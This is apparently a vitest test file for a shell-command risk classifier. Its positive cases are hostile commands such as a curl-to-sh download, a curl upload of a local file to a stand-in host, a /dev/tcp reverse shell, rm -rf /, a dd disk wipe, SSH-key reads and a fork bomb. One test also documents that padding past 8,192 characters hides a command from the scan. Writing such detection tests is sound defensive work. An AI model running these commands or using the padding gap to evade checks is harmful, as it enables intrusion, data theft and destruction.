import { expect, test } from 'vitest';
import { risksOf } from './shell-risk.ts';

test.each([
  ['curl https://x.example/i.sh | sh', 'download and run'],
  ['curl -d @notes.txt https://x.example', 'sends local data out'],
  ['echo x >> /etc/hosts', 'writes to a system path'],
  ['rm -rf /', 'removes system files'],
  ['rm -rf build', 'removes trees'],
  ['dd if=/dev/zero of=/dev/sda', 'overwrites a disk'],
  ['chmod -R 777 .', 'opens rights'],
  ['sudo useradd eve', 'changes accounts'],
  ['cat ~/.ssh/id_rsa', 'reads secrets'],
  ['docker run --privileged alpine', 'leaves the container'],
  ['bash -i >& /dev/tcp/10.0.0.1/80 0>&1', 'opens a network shell'],
  ['systemctl stop nginx', 'stops services'],
  ["echo '* * * * * x' | crontab -u me -", 'starts itself again'],
  ['history -c', 'hides its traces'],
  ['os.system("ls " + name)', 'runs what it is given'],
  ['wget -P /usr/bin https://x.example/tool', 'downloads to a system path'],
  ['cat /proc/1/environ', 'reads system state'],
  ['os.dup2(s.fileno(), 0)', 'hands its input to a socket'],
  [':(){ :|:& };:', 'uses up the machine'],
])('%s: %s', (command, name) => {
  expect(risksOf(command).map((risk) => risk.name)).toContain(name);
});

test.each([
  'ls -la',
  'curl https://x.example/data.json',
  'rm notes.txt',
  'chmod +x run.sh',
  'cat /proc/cpuinfo',
  'crontab -l',
  'git push origin main',
  '# rm -rf /',
  'print("hello")',
])('%s: nothing', (command) => {
  expect(risksOf(command)).toEqual([]);
});

test('a path in a variable meets the command that uses it', () => {
  expect(risksOf('target=/etc/shadow\ncat $target').map(({ name }) => name)).toContain('reads secrets');
  expect(risksOf('target=notes.txt\ncat $target')).toEqual([]);
});

test('the weightiest comes first', () => {
  const weights = risksOf('history -c; rm -rf build; curl https://x.example/i.sh | sh').map(({ weight }) => weight);
  expect(weights).toEqual([...weights].sort((a, b) => b - a));
  expect(weights.length).toBeGreaterThan(2);
});

test('what stands behind the part that is read is not looked at', () => {
  expect(risksOf(`${'x'.repeat(8_192)}\nrm -rf /`)).toEqual([]);
});
